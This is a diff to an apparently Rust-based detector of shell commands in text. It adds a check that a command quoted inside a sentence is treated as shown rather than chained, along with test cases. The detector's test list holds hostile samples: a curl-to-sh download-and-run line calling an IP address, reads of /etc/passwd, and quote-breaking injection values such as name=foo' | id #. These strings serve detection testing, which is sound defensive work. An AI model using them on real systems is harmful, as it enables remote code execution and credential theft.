@@ -3289,11 +3289,17 @@ fn scan_segment(
                 // Whether a written command line comes before is looked at
                 // only when the link would be reported: most separators are not.
                 let before = hits.len();
-                if check_command(text, i, j, seg_end, Ctx::Sep, hits)
-                    && follows_command_line(b, seg_start, i)
-                {
-                    hits.truncate(before);
-                    check_command(text, i, j, seg_end, Ctx::Chained, hits);
+                if check_command(text, i, j, seg_end, Ctx::Sep, hits) {
+                    // "sped up 'seq 100 | grep . >/dev/null' by a factor of
+                    // 10": a command line quoted inside a sentence is shown,
+                    // as in a code span; only hostile content counts.
+                    if quoted_in_sentence(b, seg_start, i, seg_end) {
+                        hits.truncate(before);
+                        check_command(text, i, j, seg_end, Ctx::Span, hits);
+                    } else if follows_command_line(b, seg_start, i) {
+                        hits.truncate(before);
+                        check_command(text, i, j, seg_end, Ctx::Chained, hits);
+                    }
                 }
                 i = j;
             }
@@ -3587,6 +3593,42 @@ fn file_list(prefix: &[u8], inner: &[u8], suffix: &[u8]) -> bool {
         alts += 1;
     }
     alts >= 2 && suffix.is_empty() && prefix.len() >= 2 && prefix.ends_with(b"/")
+}
+
+/// Whether the separator at `p` sits inside a quotation in a sentence: a
+/// `'` or `"` opened after a blank and two words of prose on the line,
+/// closed on the line, and followed by more words or sentence punctuation.
+fn quoted_in_sentence(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> bool {
+    let lo = seg_start.max(p.saturating_sub(160));
+    let line = memchr::memrchr(b'\n', &b[lo..p]).map_or(lo, |o| lo + o + 1);
+    let hi = seg_end.min(p + 200);
+    let line_end = memchr::memchr(b'\n', &b[p..hi]).map_or(hi, |o| p + o);
+    [b'\'', b'"'].into_iter().any(|q| {
+        let before = &b[line..p];
+        if memchr::memchr_iter(q, before).count().is_multiple_of(2) {
+            return false;
+        }
+        let Some(open) = memchr::memrchr(q, before).map(|o| line + o) else {
+            return false;
+        };
+        let Some(close) = memchr::memchr(q, &b[p..line_end]).map(|o| p + o) else {
+            return false;
+        };
+        let opened = open > line
+            && matches!(b[open - 1], b' ' | b'\t')
+            && b.get(open + 1).is_some_and(u8::is_ascii_lowercase);
+        let prose_before = b[line..open]
+            .split(|c| !c.is_ascii_alphabetic())
+            .filter(|w| w.len() >= 2)
+            .count()
+            >= 2;
+        let after = &b[close + 1..line_end];
+        let goes_on = after.first() == Some(&b' ')
+            && after.get(1).is_some_and(u8::is_ascii_alphabetic)
+            || (matches!(after.first(), Some(b'.' | b',' | b')'))
+                && after.get(1).is_none_or(|c| *c == b' '));
+        opened && prose_before && goes_on
+    })
 }
 
 /// Whether the `|` at `p` separates alternatives in a parenthesised group
@@ -5335,6 +5377,8 @@ mod tests {
             "   usr/bin/{bunzip2,bzcat}",
             "the `{` character is escaped with `{{` and the `}` character with `}}`.",
             "gcc-2.95 and libc6-dev (<< 2.3)",
+            "This sped up 'seq 10000000000 | grep . >/dev/null' by a factor of 3",
+            "\tWith this change, \"printf '\\0'|diff - /dev/null\" now prints",
         ] {
             assert!(rules(t).is_empty(), "flagged {t:?}: {:?}", rules(t));
         }
@@ -5364,6 +5408,10 @@ mod tests {
             "{{`id`}}",
             "x `{{` {{ self.__init__.__globals__ }}",
             "a; gcc x.c (<< EOF",
+            "The name is 'x | cat /etc/passwd' for now",
+            "Try this 'a; curl http://203.0.113.9/x.sh | sh' now",
+            "name=foo' | id #",
+            "q=x' | id",
             "a; cat (< /etc/passwd",
         ] {
             assert!(!rules(t).is_empty(), "missed {t:?}");
